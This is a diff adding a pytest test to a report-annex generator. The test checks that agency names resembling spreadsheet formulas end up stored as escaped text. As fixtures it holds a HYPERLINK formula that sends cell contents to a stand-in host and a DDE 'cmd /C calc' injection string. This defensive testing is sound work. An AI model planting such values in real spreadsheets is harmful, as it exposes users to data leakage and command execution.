@@ -2,6 +2,7 @@
 LibreOffice computes to the draft's figures, every figure is traced to its return and cell, the completeness
 note is there (and not in the draft's body)."""
 
+from dataclasses import replace
 from datetime import date
 from pathlib import Path
 from zoneinfo import ZoneInfo
@@ -10,8 +11,11 @@ import pytest
 from openpyxl import load_workbook
 from sqlalchemy.orm import Session
 
+from agencies.period_returns import Absence
 from agencies.roster import Roster
 from agencies.samples import SampleSet, load_samples
+from agencies.spreadsheet_text import TRIGGERS
+from agencies.states import AgencyStanding
 from phoihop.demo import submit_samples
 from report.annex import BY_AGENCY, CHARTS, SENDERS, SOURCES, SUMMARY, completeness_note, write_annex
 from report.charts import draw_charts
@@ -22,7 +26,7 @@ from schema.intake import submit_return
 from schema.periods import open_period
 from schema.snapshot import load_period_returns
 from tests.docx_reading import paragraphs, section
-from tests.factories import POLICE_FIGURES, filled_form
+from tests.factories import POLICE_FIGURES, accepted_return, filled_form, returns_of_2023_h1
 from tests.office import recalculated, value_at
 
 REPORT_DATE = date(2023, 7, 5)
@@ -160,3 +164,33 @@ def test_the_charts_are_embedded(annexed: tuple[ReportContext, Path], tmp_path: 
     pictures = load_workbook(annex)[CHARTS]._images
     drawn = sorted(tmp_path.glob("bieu-do-2023-H1-*.png"))
     assert drawn and len(pictures) == len(drawn)
+
+
+HOSTILE = '=HYPERLINK("http://example.invalid/?q="&A1,"Công an tỉnh")'
+
+
+def test_text_that_looks_like_a_formula_is_written_as_text(roster: Roster, tmp_path: Path) -> None:
+    document = roster.model_dump(mode="json")
+    police = next(a for g in document["groups"] for a in g["agencies"] if a["id"] == "police")
+    police["name"] = police["short_name"] = HOSTILE
+    document["groups"][1]["title"] = "+cmd|' /C calc'!A0"
+    hostile = Roster.model_validate(document)
+    data = returns_of_2023_h1(hostile, [accepted_return(1, "police", {"harmful_content_cases": 22})])
+    data = replace(
+        data, absences=[Absence(a.id, AgencyStanding.MISSING) for a in hostile.agencies() if a.id != "police"]
+    )
+    annex = write_annex(build_context(data, REPORT_DATE), tmp_path / "phu-luc.xlsx")
+
+    texts = [
+        cell
+        for sheet in load_workbook(annex)
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str) and ("HYPERLINK" in cell.value or "calc" in cell.value)
+    ]
+    assert {c.parent.title for c in texts} == {SUMMARY, BY_AGENCY, SENDERS, SOURCES}
+    assert all(c.data_type == "s" and not c.value.startswith(TRIGGERS) for c in texts), [c.value for c in texts]
+    assert sum(c.value.startswith("'") for c in texts) > 4
+    values = recalculated(annex, tmp_path / "lo")
+    police_row = 6 + [a.id for a in hostile.agencies()].index("police")
+    assert value_at(values[SENDERS], f"B{police_row}") == "'" + HOSTILE, "LibreOffice reads it as text, not a link"
